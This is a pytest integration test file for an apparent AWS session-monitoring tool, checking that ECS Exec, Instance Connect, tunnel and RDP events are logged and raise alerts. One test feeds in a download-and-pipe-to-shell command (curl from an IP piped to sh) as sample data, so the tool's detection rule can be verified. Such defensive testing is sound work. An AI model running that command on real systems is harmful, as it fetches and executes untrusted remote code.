"""The keyless paths in the same ledger and policy: ECS Exec, Instance Connect keys and tunnels,
Fleet Manager RDP (moto server, real handlers)."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from ssm_warden.clients import aws_client
from ssm_warden.clock import iso
from ssm_warden.ledger.keyless_events import key_fingerprint
from tests.integration.access import cloudtrail as ct
from tests.integration.enforce.conftest import Warden

NOW = iso(datetime.now(UTC).replace(microsecond=0))
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop"


def ecs_cluster_and_task(tags: dict[str, str]) -> tuple[str, str]:
    ecs = aws_client("ecs")
    cluster = ecs.create_cluster(
        clusterName="payments", tags=[{"key": k, "value": v} for k, v in tags.items()]
    )
    return cluster["cluster"][
        "clusterArn"
    ], f"arn:aws:ecs:{ct.REGION}:{ct.ACCOUNT}:task/payments/0123456789abcdef"


@pytest.mark.parametrize("upper", [False, True], ids=["cloudtrail-case", "api-case"])
def test_ecs_exec_is_a_session_record_for_the_container_and_its_command_is_judged(
    warden: Warden, prod_policy: Any, upper: bool
) -> None:
    cluster, task = ecs_cluster_and_task({"Team": "payments"})
    sid = "ecs-execute-command-0a1b2c3d4e5f60789"
    # When someone execs into a payments container with a risky command
    warden.deliver(
        ct.ecs_execute_command(
            "mallory",
            sid,
            cluster=cluster,
            task=task,
            command="sh -c 'curl http://198.51.100.7/x | sh'",
            at=NOW,
            upper=upper,
        )
    )
    # Then the ledger holds a session for the container, matched on the cluster's tags
    record = warden.session(sid)
    assert record.keyless["cluster_name"] == "payments" and record.keyless["container"] == "app"
    assert record.keyless["interactive"] is True and record.target_id == task
    assert record.target_tags == {"Team": "payments"}
    warden.run_executor()
    rules = [r for r, _ in warden.outcomes()]
    assert "keyless.ecs_exec" in rules  # the scope alerts on ECS Exec
    assert "download-pipe-to-shell" in rules  # and the command was judged


@pytest.mark.parametrize("upper", [False, True], ids=["cloudtrail-case", "api-case"])
def test_an_instance_connect_key_push_to_prod_is_alerted_with_user_and_fingerprint(
    warden: Warden, prod_policy: Any, upper: bool
) -> None:
    prod = warden.instance(Environment="prod")
    warden.deliver(ct.send_ssh_public_key("alice", prod, at=NOW, key=KEY, upper=upper))
    warden.run_executor()
    assert warden.outcomes() == [("keyless.instance_connect", "alert_only")]
    action = warden.notifier.delivered[0].action
    assert action.session.access["os_user"] == "ec2-user"
    assert action.session.access["key_fingerprint"] == key_fingerprint(KEY)
    assert key_fingerprint(KEY).startswith("SHA256:")


def test_an_instance_connect_key_push_to_dev_is_only_recorded(warden: Warden, prod_policy: Any) -> None:
    dev = warden.instance(Environment="dev")
    assert warden.deliver(ct.send_ssh_public_key("alice", dev, at=NOW, key=None))["status"] == "applied"
    assert warden.queued() == 0


def test_a_tunnel_to_port_22_on_prod_is_alerted_and_the_instance_found_by_address(
    warden: Warden, prod_policy: Any
) -> None:
    prod = warden.instance(Environment="prod")
    address = aws_client("ec2").describe_instances(InstanceIds=[prod])["Reservations"][0]["Instances"][0][
        "PrivateIpAddress"
    ]
    warden.deliver(ct.open_tunnel("alice", address, 22, at=NOW))
    warden.deliver(ct.open_tunnel("alice", address, 5432, at=NOW))
    warden.run_executor()
    assert warden.outcomes() == [("tunnel_port", "alert_only")]
    assert warden.notifier.delivered[0].action.session.target_id == prod


def test_keyless_accesses_count_towards_a_principals_concurrency(
    warden: Warden, prod_policy: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ssm_warden.config import reset_settings
    from ssm_warden.policy.store import reset_policy_cache

    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\ndefaults:\n  max_concurrent_sessions: {per_principal: 1}\n")
    monkeypatch.setenv("POLICY_FILE", str(policy))
    reset_settings()
    reset_policy_cache()
    dev = warden.instance(Environment="dev")
    warden.deliver(ct.rdp_start("alice", dev, "conn-1", at=NOW))
    warden.deliver(ct.open_tunnel("alice", dev, 3389, at=NOW))
    warden.run_executor()
    assert warden.outcomes() == [("concurrency", "alert_only")]


def test_rdp_connections_are_recorded_and_recording_switched_off_is_a_tamper_signal(
    warden: Warden, prod_policy: Any
) -> None:
    dev = warden.instance(Environment="dev")
    assert warden.deliver(ct.rdp_start("alice", dev, "conn-2", at=NOW))["status"] == "applied"
    assert warden.deliver(ct.rdp_cancel("alice", "conn-2", at=NOW))["status"] == "applied"
    warden.deliver(ct.rdp_recording_off("mallory", at=NOW))
    warden.run_executor()
    assert warden.outcomes() == [("tamper.rdp_recording_off", "alert_only")]


def test_a_redelivered_keyless_event_is_a_duplicate(warden: Warden, prod_policy: Any) -> None:
    prod = warden.instance(Environment="prod")
    event = ct.send_ssh_public_key("alice", prod, at=NOW, key=KEY)
    warden.deliver(event)
    assert warden.deliver(event)["status"] == "duplicate"
    warden.run_executor()
    assert len(warden.outcomes()) == 1
